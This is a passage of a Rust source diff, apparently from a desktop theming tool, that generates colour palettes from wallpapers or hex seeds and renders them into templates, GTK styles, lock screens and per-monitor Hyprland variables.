+        if let Some(monitor_accents) = &self.config.monitor_accents {
+            if let Err(e) = self.update_monitor_accents(monitor_accents, &theme) {
+                log::warn!("Failed to generate per-monitor colors: {}", e);
+            }
+        }
+        if let Some(lockscreen) = &self.config.lockscreen {
+            if let Err(e) = self.render_lockscreen(lockscreen, theme.accent.as_deref()) {
+                log::warn!("Failed to render the lock screen image: {}", e);
+            }
+        }
+        if let Some(gtk) = &self.config.gtk {
+            if let Err(e) = self.export_gtk_colors(gtk) {
+                log::warn!("Failed to write the GTK colors: {}", e);
+            }
+        }
+        Ok(())
+    }
+    
+    /// Generates a palette from each monitor's wallpaper in the theme's mode, scheme and
+    /// contrast, adds them to the current palette and renders the templates using them.
+    fn update_monitor_accents(&self, config: &config::MonitorAccentsConfig, theme: &CurrentTheme) -> Result<()> {
+        let assignments = self.wallpaper_assignments();
+        let Some(mut palette) = self.current_palette()? else {
+            return Ok(());
+        };
+        let scheme = theme.scheme.unwrap_or(SchemeType::TonalSpot);
+        palette.monitors.clear();
+        for (monitor, wallpaper) in &assignments.monitors {
+            let wallpaper = PathBuf::from(wallpaper);
+            log::debug!("Generating colors for {} from {}", monitor, wallpaper.display());
+            let mut monitor_palette = self.generate_palette(&Seed::Image(wallpaper), palette.mode(), scheme, theme.contrast)?;
+            monitor_palette.mode = palette.mode.clone();
+            palette.monitors.insert(monitor.clone(), monitor_palette);
+        }
+        palette.save(&Config::palette_file())?;
+        let image = theme.wallpaper().map(|p| p.to_string_lossy().to_string());
+        templates::render_monitor_templates(&palette, image.as_deref(), self.runner.as_ref())?;
+        
+        if config.hyprland {
+            let mut variables = String::from("# Per-monitor colors written by chromash; `source` this from hyprland.conf\n");
+            for (monitor, monitor_palette) in &palette.monitors {
+                let name: String = monitor.chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '_' }).collect();
+                for (role, hex) in monitor_palette.roles(palette.mode()) {
+                    variables.push_str(&format!("$chromash_{}_{} = rgb({})\n", name, role, hex.trim_start_matches('#')));
+                }
+            }
+            let path = Config::monitor_variables_file();
+            if let Some(parent) = path.parent() {
+                fs::create_dir_all(parent)?;
+            }
+            write_atomic(&path, variables)?;
+        }
+        Ok(())
+    }
+    
+    /// Writes libadwaita's named colors from the current palette and, if configured, makes
+    /// GTK 4 load them.
+    fn export_gtk_colors(&self, config: &config::GtkConfig) -> Result<()> {
+        let Some(palette) = self.current_palette()? else {
+            return Ok(());
+        };
+        let stylesheet = Config::gtk_colors_file();
+        if let Some(parent) = stylesheet.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        log::debug!("Writing {}", stylesheet.display());
+        write_atomic(&stylesheet, gtk::css(&palette))?;
+        if config.install && gtk::install(&stylesheet, &Config::gtk4_css_file())? {
+            log::info!("GTK 4 apps now load {}; restart running ones to pick it up", stylesheet.display());
+        }
+        Ok(())
+    }
+    
+    /// Renders the lock screen variant of the wallpaper now shown, tinted with the palette's
+    /// primary color (or `accent` without a palette), and points the lockers at it.
+    fn render_lockscreen(&self, config: &config::LockscreenConfig, accent: Option<&str>) -> Result<()> {
+        let Some(wallpaper) = self.current_wallpaper()? else {
+            return Ok(());
+        };
+        let primary = self.current_palette()?
+            .and_then(|palette| palette.roles(palette.mode()).get("primary").cloned());
+        let accent = primary.as_deref().or(accent).and_then(thumbnail::parse_hex).unwrap_or([0, 0, 0]);
+        let output = Config::lockscreen_file();
+        log::debug!("Rendering {} from {}", output.display(), wallpaper.display());
+        lockscreen::render(&wallpaper, accent, config, &output)?;
+        if config.configure {
+            for path in lockscreen::configure(&output)? {
+                log::info!("Pointed {} at {}", path.display(), output.display());
+            }
+        }
+        Ok(())
+    }
+    
+    /// Saves an applied theme as an anonymous timestamped preset, keeping only the
+    /// `keep` most recent snapshots.
+    fn snapshot_theme(&self, theme: &CurrentTheme, keep: usize) -> Result<()> {
+        let name = format!("snapshot-{}", chrono::Local::now().format("%Y%m%d-%H%M%S"));
+        let wallpaper = theme.wallpaper();
+        self.save_preset(&name, Some(theme.source.clone()), wallpaper, &theme.options())?;
+        let (preset_dir, mut metadata) = self.load_preset(&name)?;
+        metadata.snapshot = true;
+        self.write_preset_metadata(&preset_dir, &metadata)?;
+        
+        let mut snapshots: Vec<PresetMetadata> = self.list_presets()?.into_iter().filter(|p| p.snapshot).collect();
+        snapshots.sort_by_key(|p| std::cmp::Reverse(p.created));
+        // Automatic snapshots are pruned for good rather than piling up in the trash
+        for old in snapshots.iter().skip(keep) {
+            fs::remove_dir_all(self.presets_dir().join(self.sanitize_name(&old.name)?))?;
+        }
+        Ok(())
+    }
+    
+    pub fn load_current_theme(&self) -> Result<Option<CurrentTheme>> {
+        let theme_file = Config::current_theme_file();
+        if theme_file.exists() {
+            let content = fs::read_to_string(&theme_file)?;
+            let theme = state::parse_theme(&content)?;
+            Ok(Some(theme))
+        } else {
+            Ok(None)
+        }
+    }
+    
+    /// Refuses or allows every theme change until `unlock`, e.g. during a screen share.
+    pub fn lock(&self) -> Result<bool> {
+        if self.is_locked() {
+            return Ok(false);
+        }
+        fs::create_dir_all(Config::config_dir())?;
+        fs::write(Config::lock_file(), "")?;
+        Ok(true)
+    }
+    
+    pub fn unlock(&self) -> Result<bool> {
+        if !self.is_locked() {
+            return Ok(false);
+        }
+        fs::remove_file(Config::lock_file())?;
+        Ok(true)
+    }
+    
+    pub fn is_locked(&self) -> bool {
+        Config::lock_file().exists()
+    }
+    
+    /// Refuses changes while the theme is locked, then takes the instance lock so
+    /// concurrent invocations don't interleave their writes.
+    fn begin_apply(&self) -> Result<instance::Guard> {
+        if self.is_locked() {
+            return Err(ChromashError::Locked);
+        }
+        if self.dry_run {
+            return Ok(instance::Guard::none());
+        }
+        let wait = self.config.instance.wait.then(|| Duration::from_secs(self.config.instance.timeout));
+        instance::acquire(&Config::instance_lock_file(), wait)
+    }
+    
+    pub fn apply_color(&mut self, color: &str, options: ThemeOptions) -> Result<bool> {
+        let color = &normalize_hex(color)?;
+        let _guard = self.begin_apply()?;
+        let requested = options.clone();
+        let options = self.config.with_defaults(options);
+        let mode = options.mode.unwrap_or(ColorMode::Light);
+        let scheme = options.scheme.unwrap_or(SchemeType::TonalSpot);
+        let seed = thumbnail::parse_hex(color)
+            .and_then(|rgb| options.adjusted_seed(rgb))
+            .map_or_else(|| color.clone(), |[r, g, b]| format!("{:02x}{:02x}{:02x}", r, g, b));
+        if seed != *color {
+            log::info!("Seed #{} adjusted to #{}", color, seed);
+        }
+        self.explain(|| format!("seed #{}: given color", color));
+        if self.explain {
+            let mode_reason = if requested.mode.is_some() { "requested" } else if options.mode.is_some() { "mode in config.toml" } else { "default for colors" };
+            let scheme_reason = if requested.scheme.is_some() { "requested" } else if options.scheme.is_some() { "scheme in config.toml" } else { "default for colors" };
+            self.explain(|| format!("mode {}: {}", mode.as_str(), mode_reason));
+            self.explain(|| format!("scheme {}: {}", scheme.as_str(), scheme_reason));
+        }
+        if seed != *color {
+            self.explain(|| format!("seed adjusted to #{} by warmth {} and hue shift {}", seed, options.warmth.unwrap_or(0.0), options.hue_shift.unwrap_or(0.0)));
+        }
+        self.apply_hex_colors(&seed, mode, scheme, options.contrast)?;
+        
+        let source = format!("color_{}", color);
+        let accent = Some(format!("#{}", seed));
+        let resolved = ThemeOptions { mode: Some(mode), scheme: Some(scheme), ..options };
+        if let (true, Some(name)) = (resolved.save_preset, &resolved.preset_name) {
+            self.save_preset(name, Some(source.clone()), None, &resolved)?;
+        }
+        self.save_current_theme(&source, &resolved, accent)?;
+        Ok(true)
+    }
+    
+    /// Sets a wallpaper and, if `extract_colors`, themes from it. Returns false if colors were
+    /// requested but couldn't be generated.
+    pub fn apply_wallpaper(&mut self, path: Option<&str>, extract_colors: bool, options: ThemeOptions) -> Result<bool> {
+        self.apply_wallpaper_on(path, None, extract_colors, options)
+    }
+    
+    /// Like `apply_wallpaper`, but only changes the wallpaper of `monitor` if given.
+    pub fn apply_wallpaper_on(&mut self, path: Option<&str>, monitor: Option<&str>, extract_colors: bool, options: ThemeOptions) -> Result<bool> {
+        let _guard = self.begin_apply()?;
+        let wallpaper_path = self.select_wallpaper(path)?;
+        self.set_wallpaper_on(&wallpaper_path, monitor)?;
+        
+        if !extract_colors {
+            return Ok(true);
+        }
+        if !self.generator_installed() {
+            log::warn!("{} is not installed, so the wallpaper was set without generating colors", self.generator.name());
+            self.explain(|| format!("no colors: {} is not installed", self.generator.name()));
+            return Ok(false);
+        }
+        self.apply_wallpaper_colors(&wallpaper_path, options)
+    }
+    
+    /// Extracts and applies colors from a wallpaper without setting it as the background.
+    /// Returns false if the image couldn't be decoded.
+    pub fn apply_wallpaper_colors(&mut self, wallpaper_path: &Path, options: ThemeOptions) -> Result<bool> {
+        let _guard = self.begin_apply()?;
+        let requested = options.clone();
+        let options = self.config.with_defaults(options);
+        let options = ThemeOptions { fast: options.fast || self.minimal(), ..options };
+        let Ok(candidates) = self.cached_seed_candidates(wallpaper_path, options.fast) else {
+            self.explain(|| format!("no colors: {} couldn't be decoded", wallpaper_path.display()));
+            return Ok(false);
+        };
+        let [r, g, b] = candidates.first().map_or(FALLBACK_SEED, |(color, _)| *color);
+        let mode = options.mode.unwrap_or_else(|| ColorMode::from_brightness(r, g, b));
+        let scheme = options.scheme.unwrap_or_else(|| SchemeType::from_chroma(r, g, b));
+        if self.explain {
+            let sampling = if options.fast { "64px thumbnail, every other pixel" } else { "128px thumbnail" };
+            self.explain(|| format!("seed candidates of {} ({}), scored by frequency, saturation and mid lightness:", wallpaper_path.display(), sampling));
+            for (i, ([r, g, b], score)) in candidates.iter().enumerate() {
+                let marker = if i == 0 { " <- seed" } else { "" };
+                self.explain(|| format!("  #{:02x}{:02x}{:02x}  {:.2}{}", r, g, b, score, marker));
+            }
+            if candidates.is_empty() {
+                self.explain(|| "  none stand out; seeding with grey".to_string());
+            }
+        }
+        self.explain_mode_and_scheme(&requested, &options, [r, g, b], mode, scheme);
+        self.skip_in_dry_run(|| format!("seed #{:02x}{:02x}{:02x} from {}", r, g, b, wallpaper_path.display()));
+        log::info!(
+            "Average color of {} is #{:02x}{:02x}{:02x}: mode {}{}, scheme {}{}",
+            wallpaper_path.display(), r, g, b,
+            mode.as_str(), if options.mode.is_some() { " (requested)" } else { "" },
+            scheme.as_str(), if options.scheme.is_some() { " (requested)" } else { "" },
+        );
+        let seed = options.adjusted_seed([r, g, b]);
+        match seed {
+            Some([r, g, b]) => {
+                log::info!("Seed adjusted to #{:02x}{:02x}{:02x}; generating from it instead of the image", r, g, b);
+                self.explain(|| format!(
+                    "seed adjusted to #{:02x}{:02x}{:02x} by warmth {} and hue shift {}; generating from it instead of the image",
+                    r, g, b, options.warmth.unwrap_or(0.0), options.hue_shift.unwrap_or(0.0)));
+                self.apply_hex_colors(&format!("{:02x}{:02x}{:02x}", r, g, b), mode, scheme, options.contrast)?;
+            }
+            None => {
+                self.apply_image_colors(wallpaper_path, mode, scheme, options.contrast)?;
+            }
+        }
+        let [r, g, b] = seed.unwrap_or([r, g, b]);
+        
+        let source = format!("wallpaper_{}", paths::encode(wallpaper_path));
+        let accent = Some(format!("#{:02x}{:02x}{:02x}", r, g, b));
+        
+        let resolved = ThemeOptions { mode: Some(mode), scheme: Some(scheme), ..options };
+        if let (true, Some(name)) = (resolved.save_preset, &resolved.preset_name) {
+            self.save_preset(name, Some(source.clone()), Some(wallpaper_path.to_path_buf()), &resolved)?;
+        }
+        self.save_current_theme(&source, &resolved, accent)?;
+        Ok(true)
+    }
+    
+    fn apply_hex_colors(&mut self, color: &str, mode: ColorMode, scheme: SchemeType, contrast: Option<f64>) -> Result<bool> {
+        let color = format!("#{}", normalize_hex(color)?);
+        self.run_generator(&Seed::Color(color), mode, scheme, contrast)
+    }
+    
+    fn apply_image_colors(&mut self, image_path: &Path, mode: ColorMode, scheme: SchemeType, contrast: Option<f64>) -> Result<bool> {
+        self.run_generator(&Seed::Image(image_path.to_path_buf()), mode, scheme, contrast)
+    }
+    
+    /// Where the palette generated from `seed` is cached, if caching is on.
+    fn palette_cache_file(&self, seed: &Seed, mode: ColorMode, scheme: SchemeType, contrast: Option<f64>) -> Option<PathBuf> {
+        self.config.cache.palettes
+            .then(|| palette_cache_key(self.generator.name(), seed, mode, scheme, contrast))
+            .flatten()
+            .map(|key| Config::palette_cache_dir().join(format!("{}.json", key)))
+    }
+    
+    fn generator_installed(&self) -> bool {
+        self.generator.program().is_none_or(|program| doctor::find_executable(program).is_some())
+    }
+    
+    fn require_generator(&self) -> Result<()> {
+        if !self.generator_installed() {
+            let name = self.generator.name();
+            return Err(ChromashError::General(format!(
+                "{} is not installed, so colors can't be generated. Install it ({}), set generator = \"native\" in \
+                 config.toml, or use `chromash wallpaper-only` to set wallpapers without colors", name, self.generator.homepage())));
+        }
+        Ok(())
+    }
+    
+    /// Generates colors from `seed`, renders the templates and keeps the palette as the
+    /// current palette snapshot.
+    fn run_generator(&mut self, seed: &Seed, mode: ColorMode, scheme: SchemeType, contrast: Option<f64>) -> Result<bool> {
+        let cached = self.palette_cache_file(seed, mode, scheme, contrast);
+        let image = seed.image().map(|path| path.to_string_lossy());
+        let image = image.as_deref();
+        if let Some(cached) = cached.as_ref().filter(|_| !self.generator.has_own_templates()) {
+            if let Some(mut palette) = Palette::load(cached)? {
+                self.explain(|| format!("palette: cached in {}, so {} won't run", cached.display(), self.generator.name()));
+                self.explain_templates();
+                if self.skip_in_dry_run(|| format!("render templates from cached palette {}", cached.display())) {
+                    return Ok(true);
+                }
+                log::debug!("Rendering templates from cached palette {}", cached.display());
+                self.pin_roles(&mut palette);
+                let overrides = self.app_palettes(&palette, Some((seed, scheme, contrast)));
+                templates::render_all(&palette, image, &overrides, self.runner.as_ref())?;
+                palette.save(&Config::palette_file())?;
+                return Ok(true);
+            }
+        }
+        self.explain(|| format!("generator {}: {}", self.generator.name(), self.generator.describe(seed, mode, scheme, contrast)));
+        if seed.image().is_some() && self.generator.program().is_some() {
+            self.explain(|| format!("{} picks its own source color from the image; the seed above decided mode and scheme", self.generator.name()));
+        }
+        self.explain_templates();
+        if self.skip_in_dry_run(|| self.generator.describe(seed, mode, scheme, contrast)) {
+            let renderer = if self.generator.renders_matugen_templates() { self.generator.name() } else { "chromash" };
+            for (name, entry) in templates::load_templates()? {
+                println!("[dry-run] {} renders template {} to {}", renderer, name, entry.output_path);
+                if self.config.apps.contains_key(&name) {
+                    println!("[dry-run] render template {} again with its [apps.{}] settings", name, name);
+                }
+            }
+            return Ok(true);
+        }
+        self.require_generator()?;
+        let spinner = progress::spinner(format!("Generating colors with {}", self.generator.name()));
+        let generated = self.generator.generate(seed, mode, scheme, contrast, true, &self.generator_runner());
+        spinner.finish_and_clear();
+        
+        let Some(mut palette) = generated? else {
+            log::info!("{0} output contained no palette; templates were rendered by {0} only", self.generator.name());
+            return Ok(true);
+        };
+        palette.mode = Some(mode.as_str().to_string());
+        // Cached unpinned, so changing the pins takes effect on cached palettes too
+        if let Some(cached) = cached {
+            if let Err(e) = palette.save(&cached) {
+                log::warn!("Failed to cache palette: {}", e);
+            }
+        }
+        let pinned = self.pin_roles(&mut palette);
+        log::debug!("Saving palette to {}", Config::palette_file().display());
+        palette.save(&Config::palette_file())?;
+        let overrides = self.app_palettes(&palette, Some((seed, scheme, contrast)));
+        // What matugen rendered lacks the pinned colors
+        if !self.generator.renders_matugen_templates() || pinned {
+            templates::render_all(&palette, image, &overrides, self.runner.as_ref())?;
+        } else if !overrides.is_empty() {
+            templates::render_overrides(&overrides, image, self.runner.as_ref())?;
+        }
+        Ok(true)
+    }
+    
+    /// With `--explain`, lists the templates that will be rendered, who renders them and
+    /// the roles `pin` overrides.
+    fn explain_templates(&self) {
+        if !self.explain {
+            return;
+        }
+        let renderer = if self.generator.renders_matugen_templates() { self.generator.name() } else { "chromash" };
+        match templates::load_templates() {
+            Ok(templates) if templates.is_empty() => self.explain(|| format!("templates: none in {}", Config::template_dir().join("config.toml").display())),
+            Ok(templates) => {
+                for (name, entry) in templates {
+                    let own = if self.config.apps.contains_key(&name) { format!(", with its [apps.{}] settings", name) } else { String::new() };
+                    self.explain(|| format!("template {}: rendered by {} to {}{}", name, renderer, entry.output_path, own));
+                }
+            }
+            Err(e) => self.explain(|| format!("templates: {}", e)),
+        }
+        for (role, color) in &self.config.pin {
+            self.explain(|| format!("role {} pinned to {} by config.toml", role, color));
+        }
+    }
+    
+    /// Palettes for the templates with `[apps.<name>]` settings that change their output:
+    /// `palette` in another mode, or regenerated from `source` (the seed, scheme and
+    /// contrast `palette` came from) with another scheme or contrast. Without a
+    /// source only modes can be overridden.
+    fn app_palettes(&self, palette: &Palette, source: Option<(&Seed, SchemeType, Option<f64>)>) -> BTreeMap<String, Palette> {
+        let templates = templates::load_templates().unwrap_or_default();
+        let mut palettes = BTreeMap::new();
+        for (name, app) in &self.config.apps {
+            if !templates.contains_key(name) {
+                log::warn!("[apps.{}] doesn't match a template in {}", name, Config::template_dir().join("config.toml").display());
+                continue;
+            }
+            let mode = app.mode().unwrap_or(palette.mode());
+            let regenerate = source.filter(|(_, scheme, contrast)| {
+                app.scheme().is_some_and(|s| s.as_str() != scheme.as_str())
+                    || app.contrast.is_some_and(|c| Some(c) != *contrast)
+            });
+            let mut app_palette = match regenerate {
+                Some((seed, scheme, contrast)) => {
+                    let scheme = app.scheme().unwrap_or(scheme);
+                    let contrast = app.contrast.map(|c| c.clamp(-1.0, 1.0)).or(contrast);
+                    match self.generate_palette(seed, mode, scheme, contrast) {
+                        Ok(app_palette) => app_palette,
+                        Err(e) => {
+                            log::warn!("Failed to generate the palette for [apps.{}]: {}", name, e);
+                            continue;
+                        }
+                    }
+                }
+                None if mode.as_str() == palette.mode().as_str() => continue,
+                None => palette.clone(),
+            };
+            log::debug!("Rendering template {} in {} mode with its own settings", name, mode.as_str());
+            app_palette.mode = Some(mode.as_str().to_string());
+            palettes.insert(name.clone(), app_palette);
+        }
+        palettes
+    }
+    
+    /// Generates the palette a `color_<hex>` or `wallpaper_<path>` source would get without
+    /// rendering templates or recording anything. The result is cached like an apply's, so
+    /// applying the source afterwards skips generating.
+    pub fn preview_palette(&self, source: &str, options: ThemeOptions) -> Result<Palette> {
+        let options = self.config.with_defaults(options);
+        let hex_seed = |[r, g, b]: [u8; 3]| Seed::Color(format!("#{:02x}{:02x}{:02x}", r, g, b));
+        let (seed, mode, scheme) = if let Some(color) = source.strip_prefix("color_") {
+            let color = normalize_hex(color)?;
+            let seed = thumbnail::parse_hex(&color).ok_or_else(|| ChromashError::General(format!("Invalid hex color: {}", color)))?;
+            (hex_seed(options.adjusted_seed(seed).unwrap_or(seed)),
+             options.mode.unwrap_or(ColorMode::Light), options.scheme.unwrap_or(SchemeType::TonalSpot))
+        } else if let Some(path) = source.strip_prefix("wallpaper_").map(paths::decode) {
+            let (r, g, b) = average_color(&path, options.fast)?;
+            let seed = match options.adjusted_seed([r, g, b]) {
+                Some(seed) => hex_seed(seed),
+                None => Seed::Image(path),
+            };
+            (seed,
+             options.mode.unwrap_or_else(|| ColorMode::from_brightness(r, g, b)),
+             options.scheme.unwrap_or_else(|| SchemeType::from_chroma(r, g, b)))
+        } else {
+            return Err(ChromashError::NotFound(format!("Theme source: {}", source)));
+        };
+        self.generate_palette(&seed, mode, scheme, options.contrast)
+    }
+    
+    /// The palette generated from `seed`, from the cache or without rendering any templates.
+    fn generate_palette(&self, seed: &Seed, mode: ColorMode, scheme: SchemeType, contrast: Option<f64>) -> Result<Palette> {
+        let cached = self.palette_cache_file(seed, mode, scheme, contrast);
+        let mut palette = match cached.as_deref().map(Palette::load).transpose()?.flatten() {
+            Some(palette) => palette,
+            None => {
+                self.require_generator()?;
+                let mut palette = self.generator.generate(seed, mode, scheme, contrast, false, &self.generator_runner())?
+                    .ok_or_else(|| ChromashError::General(format!("{} output contained no palette", self.generator.name())))?;
+                palette.mode = Some(mode.as_str().to_string());
+                if let Some(cached) = cached {
+                    if let Err(e) = palette.save(&cached) {
+                        log::warn!("Failed to cache palette: {}", e);
+                    }
+                }
+                palette
+            }
+        };
+        self.pin_roles(&mut palette);
+        Ok(palette)
+    }
+    
+    /// Sets the roles pinned in the config in both modes of `palette` and its monitors'
+    /// palettes. Returns whether any color changed.
+    fn pin_roles(&self, palette: &mut Palette) -> bool {
+        let mut changed = false;
+        for (role, color) in &self.config.pin {
+            let hex = match normalize_hex(color) {
+                Ok(hex) => format!("#{}", hex),
+                Err(e) => {
+                    log::warn!("Ignoring pin.{}: {}", role, e);
+                    continue;
+                }
+            };
+            let known: Vec<&str> = palette.colors.light.keys().chain(palette.colors.dark.keys()).map(String::as_str).collect();
+            if !known.contains(&role.as_str()) {
+                log::warn!("Ignoring pin.{}: {}", role, unknown_value("role", role, &known));
+                continue;
+            }
+            let monitors = palette.monitors.values_mut().flat_map(|p| [&mut p.colors.light, &mut p.colors.dark]);
+            for roles in [&mut palette.colors.light, &mut palette.colors.dark].into_iter().chain(monitors) {
+                if roles.get(role) != Some(&hex) {
+                    roles.insert(role.clone(), hex.clone());
+                    changed = true;
+                }
+            }
+        }
+        changed
+    }
+    
+    /// Writes a stored palette through the matugen templates without regenerating it.
+    pub fn apply_palette(&mut self, palette: &Palette, image: Option<&Path>) -> Result<Vec<PathBuf>> {
+        let _guard = self.begin_apply()?;
+        let mut palette = palette.clone();
+        self.pin_roles(&mut palette);
+        if self.dry_run {
+            let mode = palette.mode();
+            let primary = palette.roles(mode).get("primary").map_or("-", String::as_str);
+            println!("[dry-run] replay palette (mode {}, primary {})", mode.as_str(), primary);
+            for (name, entry) in templates::load_templates()? {
+                println!("[dry-run] render template {} to {}", name, entry.output_path);
+                if let Some(hook) = &entry.post_hook {
+                    println!("[dry-run] run post hook: sh -c {:?}", hook);
+                }
+            }
+            return Ok(Vec::new());
+        }
+        let image = image.map(|p| p.to_string_lossy().to_string());
+        let written = templates::render_all(&palette, image.as_deref(), &self.app_palettes(&palette, None), self.runner.as_ref())?;
+        palette.save(&Config::palette_file())?;
+        Ok(written)
+    }
+    
+    /// Swaps the accent roles (primary, secondary, tertiary and their containers) of the
+    /// current palette for ones generated from `color`, keeping surfaces and backgrounds,
+    /// and renders the templates from the result.
+    pub fn apply_accent(&mut self, color: &str) -> Result<Palette> {
+        let color = normalize_hex(color)?;
+        let _guard = self.begin_apply()?;
+        let current = self.current_palette()?
+            .ok_or_else(|| ChromashError::NotFound("A current palette; apply a theme first".into()))?;
+        let theme = self.load_current_theme()?
+            .ok_or_else(|| ChromashError::NotFound("No theme applied yet".into()))?;
+        let seed = format!("#{}", color);
+        let scheme = theme.scheme.unwrap_or(SchemeType::TonalSpot);
+        let generated = self.generate_palette(&Seed::Color(seed.clone()), current.mode(), scheme, theme.contrast)?;
+        
+        let is_accent = |role: &str| ["primary", "secondary", "tertiary"].iter().any(|accent| role.contains(accent));
+        let mut palette = current;
+        for (roles, generated) in [(&mut palette.colors.light, &generated.colors.light), (&mut palette.colors.dark, &generated.colors.dark)] {
+            roles.extend(generated.iter().filter(|(role, _)| is_accent(role)).map(|(role, hex)| (role.clone(), hex.clone())));
+        }
+        palette.palettes.extend(generated.palettes.into_iter().filter(|(name, _)| is_accent(name)));
+        
+        self.apply_palette(&palette, theme.wallpaper().as_deref())?;
+        self.save_current_theme(&theme.source, &theme.options(), Some(seed))?;
+        Ok(palette)
+    }
+    
+    /// Sets one role of the current palette in `mode` (the palette's own if `None`) and
+    /// renders the templates from it. The change is kept in the stored palette, so it
+    /// lasts through mode switches and replays until a new palette is generated.
+    pub fn set_role(&mut self, role: &str, color: &str, mode: Option<ColorMode>) -> Result<Palette> {
+        let color = normalize_hex(color)?;
+        let _guard = self.begin_apply()?;
+        let mut palette = self.current_palette()?
+            .ok_or_else(|| ChromashError::NotFound("A current palette; apply a theme first".into()))?;
+        let theme = self.load_current_theme()?
+            .ok_or_else(|| ChromashError::NotFound("No theme applied yet".into()))?;
+        let mode = mode.unwrap_or(palette.mode());
+        let roles = match mode {
+            ColorMode::Light => &mut palette.colors.light,
+            ColorMode::Dark => &mut palette.colors.dark,
+        };
+        if !roles.contains_key(role) {
+            let known: Vec<&str> = roles.keys().map(String::as_str).collect();
+            return Err(unknown_value("role", role, &known));
+        }
+        roles.insert(role.to_string(), format!("#{}", color));
+        if self.config.pin.contains_key(role) {
+            log::warn!("pin.{} in config.toml takes precedence over the new color", role);
+        }
+        
+        self.apply_palette(&palette, theme.wallpaper().as_deref())?;
+        self.save_current_theme(&theme.source, &theme.options(), theme.accent.clone())?;
+        Ok(palette)
+    }
+    
+    /// Switches the current theme to `mode`, or to the other mode, by re-rendering the
+    /// templates from the stored palette, which holds the colors of both, instead of
+    /// running matugen again.
+    pub fn switch_mode(&mut self, mode: Option<ColorMode>) -> Result<ColorMode> {
+        let _guard = self.begin_apply()?;
+        let theme = self.load_current_theme()?
+            .ok_or_else(|| ChromashError::NotFound("No theme applied yet".into()))?;
+        let mut palette = self.current_palette()?
+            .ok_or_else(|| ChromashError::NotFound("A current palette; apply a theme first".into()))?;
+        let mode = mode.unwrap_or(match palette.mode() {
+            ColorMode::Light => ColorMode::Dark,
+            ColorMode::Dark => ColorMode::Light,
+        });
+        let options = ThemeOptions { mode: Some(mode), ..theme.options() };
+        if palette.roles(mode).is_empty() {
+            log::info!("The stored palette has no {} colors; regenerating it", mode.as_str());
+            self.apply_source(&theme.source, options)?;
+            return Ok(mode);
+        }
+        palette.mode = Some(mode.as_str().to_string());
+        for monitor_palette in palette.monitors.values_mut() {
+            monitor_palette.mode = palette.mode.clone();
+        }
+        self.apply_palette(&palette, theme.wallpaper().as_deref())?;
+        self.save_current_theme(&theme.source, &options, theme.accent.clone())?;
+        Ok(mode)
+    }
+    
+    pub fn current_palette(&self) -> Result<Option<Palette>> {
+        Palette::load(&Config::palette_file())
+    }
+    
+    /// Regenerates colors for the current theme's source without touching the wallpaper
+    /// or the current theme record, e.g. for temporary variants like the idle dim.
+    pub fn regenerate_colors(&mut self, options: &ThemeOptions) -> Result<bool> {
+        let _guard = self.begin_apply()?;
+        let current = self.load_current_theme()?
+            .ok_or_else(|| ChromashError::NotFound("No theme applied yet".into()))?;
+        if let Some(color) = current.source.strip_prefix("color_") {
+            let mode = options.mode.unwrap_or(ColorMode::Light);
+            let scheme = options.scheme.unwrap_or(SchemeType::TonalSpot);
+            return self.apply_hex_colors(color, mode, scheme, options.contrast);
+        }
+        if let Some(path) = current.wallpaper() {
+            let (r, g, b) = average_color(&path, options.fast || self.config.extraction.quality == config::Quality::Low)?;
+            let mode = options.mode.unwrap_or_else(|| ColorMode::from_brightness(r, g, b));
+            let scheme = options.scheme.unwrap_or_else(|| SchemeType::from_chroma(r, g, b));
+            return self.apply_image_colors(&path, mode, scheme, options.contrast);
+        }
+        Err(ChromashError::NotFound(format!("Theme source: {}", current.source)))
+    }
+    
+    fn select_wallpaper(&self, path: Option<&str>) -> Result<PathBuf> {
+        if let Some(p) = path {
+            let path_buf = paths::expand(p);
+            if path_buf.is_file() {
+                self.explain(|| format!("wallpaper {}: as given", path_buf.display()));
+                return Ok(path_buf);
+            }
+            self.explain(|| format!("{} is not a file; looking for another wallpaper", path_buf.display()));
+        }
+        
+        // Check for existing wallpaper in hyprpaper directory
+        if let Some(current) = self.current_wallpaper()? {
+            self.explain(|| format!("wallpaper {}: the one currently shown", current.display()));
+            return Ok(current);
+        }
+        
+        // Prefer the active season's collection over the general wallpaper directory
+        if let Some(season) = self.active_season()? {
+            if let Some(dir) = &season.directory {
+                if let Some(found) = first_image_in(&self.wallpaper_dir().join(paths::expand(dir)))? {
+                    self.explain(|| format!("wallpaper {}: first in the collection of season {}", found.display(), season.name));
+                    return Ok(found);
+                }
+            }
+        }
+        
+        if let Some(found) = self.first_wallpaper()? {
+            self.explain(|| format!("wallpaper {}: first in {}", found.display(), self.wallpaper_dir().display()));
+            return Ok(found);
+        }
+        Err(ChromashError::NotFound("No wallpaper found".into()))
+    }
+    
+    /// Returns the wallpaper shown on monitors without their own, falling back to any
+    /// wallpaper copied into the hyprpaper directory.
+    fn current_wallpaper(&self) -> Result<Option<PathBuf>> {
+        let fallback = self.wallpaper_assignments().fallback.map(PathBuf::from).filter(|p| p.is_file());
+        match fallback {
+            Some(path) => Ok(Some(path)),
+            None => first_image_in(&self.hyprpaper_dir()),
+        }
+    }
+    
+    /// Monitor assignments in chromash's block of `hyprpaper.conf`.
+    fn wallpaper_assignments(&self) -> hyprpaper::Assignments {
+        hyprpaper::Assignments::parse(&fs::read_to_string(self.assignments_file()).unwrap_or_default())
+    }
+    
+    /// hyprpaper.conf, or a file of the same format in the state directory for backends
+    /// configured on the command line.
+    fn assignments_file(&self) -> PathBuf {
+        match self.backend {
+            backend::Backend::Hyprpaper => Config::hyprpaper_config(),
+            _ => Config::state_dir().join("wallpapers.conf"),
+        }
+    }
+    
+    pub fn active_season(&self) -> Result<Option<&SeasonConfig>> {
+        season::active(&self.config.seasons, chrono::Local::now().date_naive())
+    }
+    
+    /// Applies a season's preset, or else the first wallpaper of its collection.
+    pub fn apply_season(&mut self, season: &SeasonConfig) -> Result<bool> {
+        if let Some(preset) = &season.preset {
+            return self.apply_preset(preset, ThemeOptions::default());
+        }
+        if let Some(dir) = &season.directory {
+            if let Some(found) = first_image_in(&self.wallpaper_dir().join(paths::expand(dir)))? {
+                return self.apply_wallpaper(found.to_str(), true, ThemeOptions::default());
+            }
+        }
+        Err(ChromashError::NotFound(format!("Wallpaper or preset for season: {}", season.name)))
+    }
+    
+    /// Rewrites the monitor assignments for the active monitors, e.g. after a hotplug;
+    /// new monitors get the current wallpaper.
+    pub fn refresh_wallpaper(&self) -> Result<()> {
+        let current = self.current_wallpaper()?
